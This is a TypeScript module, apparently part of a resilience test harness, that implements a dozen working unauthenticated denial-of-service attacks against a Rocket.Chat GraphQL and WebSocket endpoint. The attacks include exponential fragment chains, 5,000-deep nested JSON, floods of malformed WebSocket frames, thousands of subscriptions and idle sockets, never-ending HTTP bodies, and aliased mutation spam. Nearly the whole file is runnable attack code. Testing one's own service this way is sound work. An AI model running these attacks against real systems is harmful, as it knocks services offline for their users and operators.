import { randomBytes, randomUUID } from 'node:crypto'
import { request } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import WebSocket from 'ws'

/** Attackers have a separate address, so that limits per address do not affect the legitimate client. */
const ATTACKER_ADDRESS = '127.0.0.2'
const SUBPROTOCOL = 'graphql-transport-ws'
const MIB = 1024 * 1024

/** The target of an attack. */
export interface Target {
  /** `http://HOST:PORT/graphql` */
  readonly url: string
  /** Global id of a Rocket.Chat room that exists. */
  readonly roomId: string
  /** Global ids of LiveChat rooms, existing or not. */
  readonly liveChatIds: readonly string[]
  /** Duration of the attack in milliseconds. */
  readonly forMs: number
}

/** Sends as much as it can until its time is over. Resolves with a description of what it managed to do. */
export type Attack = (target: Target) => Promise<string>

/** All attacks by the names that the table shows. None needs a valid credential. */
export const attacks: Readonly<Record<string, Attack>> = {
  'fragment chain in a query, mutation and subscription, HTTP': async (target) => {
    const answers = await repeat(target, async (index) => {
      const type = (['Query', 'Mutation', 'Subscription'] as const)[index % 3] ?? 'Query'
      return post(target, { query: fragmentChain(type) })
    })
    return `${answers} documents`
  },
  'fragment chain, WebSocket': async (target) => {
    const socket = await openSocket(target, { initialise: true })
    const payload = { query: fragmentChain('Subscription') }
    socket.send(JSON.stringify({ id: '1', type: 'subscribe', payload }))
    await sleep(target.forMs)
    socket.terminate()
    return '1 document'
  },
  'ping nested 5 000 deep before connection_init': async (target) => {
    const nested = `{"type":"ping","payload":{"a":${'['.repeat(5_000)}${']'.repeat(5_000)}}}`
    const sent = await repeat(target, async () => {
      const socket = await openSocket(target)
      socket.send(nested)
      await sleep(20)
      socket.terminate()
    })
    return `${sent} pings`
  },
  'odd Range headers': async (target) => {
    const ranges = ['bytes=9-1', 'bytes=0-18446744073709551615', 'bytes=-0', 'bytes=a-b']
    const sent = await repeat(target, async (index) => {
      for (const path of ['/', '/widget/', '/index.html'])
        await exchange(target, { path, headers: { range: ranges[index % ranges.length] ?? '' } })
    })
    return `${3 * sent} requests`
  },
  'burst of 31 000 bad frames': async (target) => {
    const bad = maskedFrame('{"id":"1","type":"subscribe","payload":{"query":"{ x }"}}')
    const frames = Buffer.concat(Array.from({ length: 31_000 }, () => bad))
    const bursts = await repeat(target, async () => {
      const transport = await openRawSocket(target)
      transport.write(maskedFrame('{"type":"connection_init"}'))
      await new Promise<void>((resolve) => {
        transport.once('close', () => resolve())
        transport.write(frames, () => transport.end())
        setTimeout(() => transport.destroy(), 5_000)
      })
    })
    return `${bursts} bursts of ${(frames.length / MIB).toFixed(1)} MiB`
  },
  'nodes by an invented visitor token': async (target) => {
    const aliases = Array.from({ length: 15 }, (_, index) => `n${index}: nodes(ids: $ids) { id }`)
    const query = `query($ids: [ID!]!) { ${aliases.join(' ')} }`
    const sent = await repeat(target, async () =>
      post(target, { query, variables: { ids: target.liveChatIds } }, { 'x-visitor-token': invented() }),
    )
    return `${sent} operations`
  },
  '50 aliased startRoom': async (target) => {
    const aliases = Array.from({ length: 50 }, (_, index) => {
      const input = `{ provider: "livechat", name: "Eve", text: "${index}" }`
      return `s${index}: startRoom(input: ${input}) { __typename }`
    })
    const sent = await repeat(target, async () =>
      post(target, { query: `mutation { ${aliases.join(' ')} }` }),
    )
    return `${sent} operations`
  },
  '1 990 subscriptions with invented tokens': async (target) => {
    const query = 'subscription($id: ID!) { roomEvents(roomId: $id) { cursor } }'
    const sockets = await openMany(1_990, async () => {
      const socket = await openSocket(target, { initialise: true, visitorToken: invented() })
      socket.send(
        JSON.stringify({ id: '1', type: 'subscribe', payload: { query, variables: { id: target.roomId } } }),
      )
      return socket
    })
    await sleep(target.forMs)
    for (const socket of sockets) socket.terminate()
    return `${sockets.length} sockets opened`
  },
  '190 subscriptions of 1 MiB each': async (target) => {
    const query = 'subscription($id: ID!) { roomEvents(roomId: $id) { cursor } }'
    const sockets = await openMany(190, async () => {
      const socket = await openSocket(target, { initialise: true, visitorToken: invented() })
      const variables = { id: target.roomId, unused: randomBytes(480_000).toString('hex') }
      socket.send(JSON.stringify({ id: '1', type: 'subscribe', payload: { query, variables } }))
      return socket
    })
    await sleep(target.forMs)
    for (const socket of sockets) socket.terminate()
    return `${sockets.length} sockets opened`
  },
  'endless bodies on 8 connections': async (target) => {
    const sent = await Promise.all(Array.from({ length: 8 }, () => sendEndlessBody(target)))
    return `${Math.round(sent.reduce((sum, bytes) => sum + bytes, 0) / MIB)} MiB taken`
  },
  'offline messages without end': async (target) => {
    const aliases = Array.from({ length: 40 }, (_, index) => {
      const input = `{ provider: "rocketchat", name: "Eve", email: "eve${index}@mail.test", text: "spam" }`
      return `s${index}: sendOfflineMessage(input: ${input}) { __typename }`
    })
    const sent = await repeat(target, async () =>
      post(target, { query: `mutation { ${aliases.join(' ')} }` }),
    )
    return `${40 * sent} messages sent`
  },
  '5 000 idle sockets of one address': async (target) => {
    const sockets = await openMany(5_000, () => openSocket(target))
    await sleep(target.forMs)
    for (const socket of sockets) socket.terminate()
    return `${sockets.length} sockets opened`
  },
}

function fragmentChain(type: string): string {
  const links = Array.from(
    { length: 40 },
    (_, index) => `fragment F${index} on ${type} { ...F${index + 1} ...F${index + 1} }`,
  )
  const field = type === 'Subscription' ? 'roomActivity { id }' : '__typename'
  return `${type.toLowerCase()} { ...F0 } ${links.join(' ')} fragment F40 on ${type} { ${field} }`
}

function invented(): string {
  return randomUUID()
}

/** Runs `work` repeatedly, four at a time, until the time is over; failures count too. Resolves with the number of runs. */
async function repeat(target: Target, work: (index: number) => Promise<unknown>): Promise<number> {
  const end = performance.now() + target.forMs
  let done = 0
  const worker = async () => {
    while (performance.now() < end) {
      done += 1
      await work(done).catch(() => sleep(20))
    }
  }
  await Promise.all([worker(), worker(), worker(), worker()])
  return done
}

/** Opens this many sockets, 50 at a time; omits those that are refused. */
async function openMany(count: number, open: () => Promise<WebSocket>): Promise<readonly WebSocket[]> {
  const sockets: WebSocket[] = []
  for (let at = 0; at < count; at += 50) {
    const batch = await Promise.allSettled(Array.from({ length: Math.min(50, count - at) }, open))
    for (const opened of batch) if (opened.status === 'fulfilled') sockets.push(opened.value)
  }
  return sockets
}

function post(target: Target, body: object, headers: Readonly<Record<string, string>> = {}): Promise<string> {
  const path = new URL(target.url).pathname
  const json = { 'content-type': 'application/json' }
  return exchange(target, { path, method: 'POST', headers: { ...json, ...headers } }, JSON.stringify(body))
}

interface RequestHead {
  readonly path: string
  readonly method?: string
  readonly headers: Readonly<Record<string, string>>
}

function exchange(target: Target, head: RequestHead, body?: string): Promise<string> {
  const { hostname, port } = new URL(target.url)
  return new Promise((resolve, reject) => {
    const options = { hostname, port, localAddress: ATTACKER_ADDRESS, agent: false, timeout: 10_000, ...head }
    const call = request(options, (response) => {
      let text = ''
      response.setEncoding('utf8').on('data', (chunk: string) => {
        text += chunk
      })
      response.once('end', () => resolve(text)).once('error', reject)
    })
    call.once('error', reject).once('timeout', () => call.destroy(new Error('no answer')))
    call.end(body)
  })
}

interface SocketStart {
  readonly initialise?: boolean
  readonly visitorToken?: string
}

async function openSocket(
  target: Target,
  { initialise, visitorToken }: SocketStart = {},
): Promise<WebSocket> {
  const url = target.url.replace('http', 'ws')
  const socket = new WebSocket(url, SUBPROTOCOL, { localAddress: ATTACKER_ADDRESS, handshakeTimeout: 10_000 })
  socket.on('error', () => {})
  await new Promise<void>((resolve, reject) => {
    socket.once('open', () => resolve()).once('close', () => reject(new Error('refused')))
  })
  if (!initialise) return socket
  const payload = visitorToken === undefined ? {} : { visitorToken }
  socket.send(JSON.stringify({ type: 'connection_init', payload }))
  await new Promise<void>((resolve, reject) => {
    socket.once('message', () => resolve()).once('close', () => reject(new Error('refused')))
  })
  return socket
}

/** Opens a TCP connection after a WebSocket handshake, for frames that a library would not send. */
async function openRawSocket(target: Target) {
  const { hostname, port, pathname } = new URL(target.url)
  const transport = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS })
  transport.on('error', () => {})
  transport.write(
    `GET ${pathname} HTTP/1.1\r\nhost: ${hostname}:${port}\r\nupgrade: websocket\r\nconnection: Upgrade\r\n` +
      `sec-websocket-version: 13\r\nsec-websocket-protocol: ${SUBPROTOCOL}\r\n` +
      `sec-websocket-key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
  )
  await new Promise((resolve, reject) => {
    transport.once('data', resolve).once('close', () => reject(new Error('refused')))
  })
  transport.resume()
  return transport
}

/** Creates a client's text frame of at most 125 bytes, masked with zeros. */
function maskedFrame(text: string): Buffer {
  const payload = Buffer.from(text)
  return Buffer.concat([Buffer.from([0x81, 0x80 | payload.length, 0, 0, 0, 0]), payload])
}

/** Sends a body that never ends; resolves with the bytes that the server took. */
async function sendEndlessBody(target: Target): Promise<number> {
  const { hostname, port, pathname } = new URL(target.url)
  const chunk = Buffer.alloc(256 * 1024, 0x20)
  const end = performance.now() + target.forMs
  let sent = 0
  while (performance.now() < end) {
    await new Promise<void>((resolve) => {
      const transport = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS })
      const stop = setTimeout(() => transport.destroy(), Math.max(1, end - performance.now()))
      transport.once('close', () => {
        clearTimeout(stop)
        sent += transport.bytesWritten
        resolve()
      })
      transport.on('error', () => {}).resume()
      transport.write(
        `POST ${pathname} HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\ncontent-length: 1000000000000\r\n\r\n`,
      )
      const pump = () => {
        while (!transport.destroyed && transport.write(chunk));
      }
      transport.on('drain', pump)
      pump()
    })
  }
  return sent
}
